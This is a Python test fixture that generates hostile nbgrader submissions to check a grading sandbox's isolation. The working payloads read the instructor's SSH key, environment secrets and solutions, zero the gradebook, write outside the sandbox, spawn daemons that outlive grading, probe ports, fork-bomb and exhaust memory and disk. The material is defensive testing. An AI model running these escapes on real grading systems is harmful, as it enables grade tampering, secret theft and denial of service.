"""Submissions of a1 that try to escape the grading sandbox, each printing what it managed to do.

Each one is the reference solution plus a few lines of ordinary Python in
its last solution cell (``describe_socket``): the lines an attacker would
write, run while nbgrader grades. They print one line ``ESCAPE {json}``
with what they reached, so a test can read the autograded notebook and say
which escape worked. Nothing here may harm the host if the sandbox is off:
the disk filler stops at 1 GB per folder.

Typical use::

    escapes = escape_cases(Targets(course_root, home, port, canary, marker))
    course.submit(case.student, "a1-sockets", case.build(released))
"""

from __future__ import annotations

import json
import textwrap
from dataclasses import dataclass

from grading_course import reference_sources
from grading_submissions import Case

ASSIGNMENT = "a1-sockets"
CELL = "describe_socket"


@dataclass(frozen=True)
class Targets:
    """What the escapes aim at: host paths, the host's listening port, the names they leave behind."""

    course_root: str
    home: str  # the instructor's home (a fake one with .ssh/id_rsa)
    port: int  # a socket listening on the host's 127.0.0.1
    canary: str  # a file in the host's /tmp
    marker: str  # in the command line of a process left running, and in the names of files written
    secret_variable: str  # an environment variable of the instructor's shell


def _escape(targets: Targets, body: str) -> str:
    header = f"import json, os, sys\nT = json.loads({json.dumps(json.dumps(targets.__dict__))})\nR = {{}}\n"
    return header + textwrap.dedent(body).strip("\n") + "\nprint('ESCAPE', json.dumps(R, default=str))\n"


READ = '''
def readable(path):
    try:
        with open(path, "rb") as stream:
            return len(stream.read(100)) > 0
    except OSError:
        return False

root = T["course_root"]
R["solutions"] = readable(f"{root}/solutions/en/a1-sockets/a1-sockets.ipynb")
R["solutions_from_parents"] = [str(p) for p in __import__("pathlib").Path.cwd().parents
                               if (p / "solutions").exists() or (p / "gradebook.db").exists()]
R["config"] = readable(f"{root}/nbgrader_config.py")
R["other_submission"] = readable(f"{root}/submitted/a-honest-first/a1-sockets/a1-sockets.ipynb")
R["ssh_key"] = readable(f"{T['home']}/.ssh/id_rsa")
R["host_tmp"] = readable(T["canary"])
R["secret_variable"] = T["secret_variable"] in os.environ
R["environment"] = sorted(os.environ)
R["home"] = os.environ.get("HOME")
'''

GRADEBOOK = '''
import sqlite3

R["gradebook"] = []
for path in [f"{T['course_root']}/gradebook.db", "../../../gradebook.db"]:
    try:
        db = sqlite3.connect(f"file:{path}?mode=rw", uri=True, timeout=2)
        db.execute("UPDATE grade SET manual_score = 0")
        db.execute("UPDATE source_cell SET source = 'assert False'")
        db.commit()
        R["gradebook"].append(path)
    except sqlite3.Error as error:
        R.setdefault("gradebook_errors", []).append(str(error))
'''

WRITE = '''
R["written"] = []
for path in [f"{T['course_root']}/{T['marker']}-root.txt", f"../../../{T['marker']}-relative.txt",
             f"{os.path.dirname(T['canary'])}/{T['marker']}-tmp.txt", f"{T['home']}/{T['marker']}-home.txt"]:
    try:
        with open(path, "w") as stream:
            stream.write("written by a submission")
        R["written"].append(path)
    except OSError:
        pass
'''

PROCESS = '''
import subprocess

late = f"{T['course_root']}/{T['marker']}-late.txt"
program = f"import sys, time; time.sleep(3); open({late!r}, 'w').write('after grading')"
child = subprocess.Popen([sys.executable, "-c", program, T["marker"]], start_new_session=True,
                         stdin=subprocess.DEVNULL, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
if os.fork() == 0:  # and a double-forked daemon, the classic way to outlive a parent
    os.setsid()
    if os.fork() == 0:
        os.execv(sys.executable, [sys.executable, "-c", program, T["marker"], "daemon"])
    os._exit(0)
R["started"] = child.pid
'''

NETWORK = '''
import socket

def connects(host, port):
    try:
        with socket.create_connection((host, port), timeout=1):
            return True
    except OSError as error:
        R.setdefault("errors", set()).add(type(error).__name__)
        return False

listening = set()
for table in ("/proc/net/tcp", "/proc/net/tcp6"):
    try:
        for line in open(table).read().splitlines()[1:]:
            fields = line.split()
            if fields[3] == "0A":  # LISTEN
                listening.add(int(fields[1].rsplit(":", 1)[1], 16))
    except OSError:
        pass
R["listening_seen"] = sorted(listening)
R["reached"] = [port for port in sorted(listening | {T["port"]}) if connects("127.0.0.1", port)]
R["reached_other_address"] = [host for host in ("10.0.2.2", "1.1.1.1", "172.17.0.1") if connects(host, 80)]
R["own_server"] = False
with socket.create_server(("127.0.0.1", 0)) as server:  # the sandbox's own loopback still works
    with socket.create_connection(server.getsockname(), timeout=2):
        R["own_server"] = True
'''

FORK_BOMB = '''
import time

def bomb():
    while True:
        try:
            os.fork()
        except OSError:
            time.sleep(0.01)

children = 0
print("ESCAPE", json.dumps({"bomb": "started"}), flush=True)
while True:  # ends with BlockingIOError once the process limit is reached
    if os.fork() == 0:
        bomb()
    children += 1
'''

MEMORY = '''
chunks = []
try:
    while len(chunks) < 80:  # 80 x 256 MB: stop at 20 GB if nothing else does
        chunks.append(b"x" * (256 * 1024 * 1024))
except MemoryError:
    pass
R["allocated_mb"] = 256 * len(chunks)
chunks.clear()
print("ESCAPE", json.dumps(R), flush=True)
huge = bytearray(20 * 1024**3)  # MemoryError, with the sandbox's sentence before it
'''

DISK = '''
CHUNK = b"\\0" * (16 * 1024 * 1024)
R["written_mb"] = {}
last_error = None
for folder in [".", "/tmp", os.path.expanduser("~"), "/dev/shm"]:
    total = 0
    for number in range(64):  # at most 1 GB per folder
        try:
            with open(os.path.join(folder, f"{T['marker']}-fill-{number}"), "wb") as stream:
                while total < 1024**3:
                    stream.write(CHUNK)
                    total += len(CHUNK)
        except OSError as error:
            last_error = error
            if error.errno != 27:  # EFBIG: next file; anything else: next folder
                break
        if total >= 1024**3:
            break
    R["written_mb"][folder] = total // (1024 * 1024)
print("ESCAPE", json.dumps(R), flush=True)
if last_error is not None:
    raise last_error  # shows the sandbox's sentence about the scratch space
'''

ESCAPES = {
    "read": READ,
    "gradebook": GRADEBOOK,
    "write": WRITE,
    "process": PROCESS,
    "network": NETWORK,
    "fork-bomb": FORK_BOMB,
    "memory": MEMORY,
    "disk": DISK,
}


def escape_cases(targets: Targets) -> list[Case]:
    """One a1 submission per escape, named ``escape-<name>``, each with the reference solution."""
    sources = reference_sources(ASSIGNMENT)
    return [
        Case(f"escape-{name}", ASSIGNMENT, f"tries to escape: {name}",
             {CELL: sources[CELL] + "\n\n" + _escape(targets, body)}, hostile=True)
        for name, body in ESCAPES.items()
    ]


def escape_results(notebook) -> dict:
    """Everything the ``ESCAPE {json}`` lines of an autograded notebook report, merged."""
    found = {}
    for cell in notebook.cells:
        for output in cell.get("outputs", []):
            for line in output.get("text", "").splitlines():
                if line.startswith("ESCAPE "):
                    found.update(json.loads(line[len("ESCAPE "):]))
    return found
